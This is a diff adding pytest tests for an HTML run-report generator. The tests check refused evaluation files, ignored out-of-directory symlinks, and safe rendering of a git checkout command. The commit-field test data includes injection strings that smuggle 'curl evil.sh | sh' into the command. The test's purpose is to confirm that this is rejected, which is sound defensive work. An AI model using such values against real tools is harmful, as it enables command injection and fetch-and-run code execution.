@@ -1,5 +1,6 @@
 """The page about runs, read as text and opened in a real browser."""
 
+import base64
 import dataclasses
 import json
 import re
@@ -149,6 +150,69 @@ def test_text_is_escaped_wherever_it_enters():
     read = Reader(page)
     assert "script" not in read.tags and "b" not in read.tags
     assert read.text.count(EVIL) == 8 and ("src", f"data:{EVIL}") in read.attributes
+
+
+ASKED = {"run": "x", "env_id": "A-v0", "episodes": 1, "obedience": {}}
+
+
+@pytest.mark.parametrize(
+    "told",
+    [
+        ASKED,
+        {**ASKED, "conditions": 5},
+        {**ASKED, "conditions": [5]},
+        {**ASKED, "conditions": [{"target_return": "a", "return_mean": 1.0}]},
+        {**ASKED, "conditions": [], "env_id": ["a"]},
+        {"experiments": {"runs": {"obedience": 1}}},
+        {"experiments": [{"runs": ["obedience"]}]},
+        {"experiments": [{"runs": 5}]},
+    ],
+)
+def test_an_evaluation_that_lacks_what_is_drawn_is_one_line(tmp_path, refused, told):
+    path = make_run(tmp_path / "run", MLPConfig(), [1.0, 2.0])
+    file = path / "obedience.json"
+    file.write_text(json.dumps(told))
+    refused(report.main, [path], f"--evaluation {file} cannot be read")
+
+
+def test_links_out_of_a_run_are_not_followed(tmp_path):
+    path = make_run(tmp_path / "run", MLPConfig(), [1.0, 2.0])
+    (tmp_path / "secret").write_text("not for the page")
+    told = json.dumps({"run": "not for the page", "episodes": 1})
+    (tmp_path / "told.json").write_text(told)
+    (path / "videos").mkdir()
+    (path / "videos" / "own.gif").write_text("own")
+    (path / "videos" / "link.gif").symlink_to("own.gif")
+    (path / "videos" / "v.gif").symlink_to(tmp_path / "secret")
+    (path / "obedience.json").symlink_to(tmp_path / "told.json")
+    with pytest.warns(UserWarning, match="left out; name that file") as said:
+        assert report.main([str(path)]) == 0
+    texts = " ".join(str(each.message) for each in said)
+    assert "v.gif" in texts and "obedience.json" in texts and "link.gif" not in texts
+    page = (path / "report.html").read_text()
+    assert base64.b64encode(b"own").decode() in page
+    assert base64.b64encode(b"not for the page").decode() not in page
+    assert "not for the page" not in page
+
+
+@pytest.mark.parametrize(
+    ("commit", "line"),
+    [
+        ("41580aa4f18007f5ce72dd6e470b14c2cea4693b", "git checkout 41580aa4f"),
+        ("41580aa+", "git checkout 41580aa  # and changes that were not committed"),
+        ("abc; curl evil.sh | sh", None),
+        ("--orphan", None),
+        ("41580aa\ncurl evil.sh", None),
+        (None, None),
+    ],
+)
+def test_only_a_commit_is_checked_out(tmp_path, commit, line):
+    path = make_run(tmp_path / "run", MLPConfig(), [1.0, 2.0])
+    RunDirectory(path).update(git_commit=commit)
+    commands = re.findall(r"<pre>(.*?)</pre>", report.report((path,)), re.DOTALL)
+    assert ("git checkout" in "".join(commands)) == (line is not None)
+    assert line is None or line in "".join(commands)
+    assert "curl" not in "".join(commands)
 
 
 @pytest.mark.parametrize(
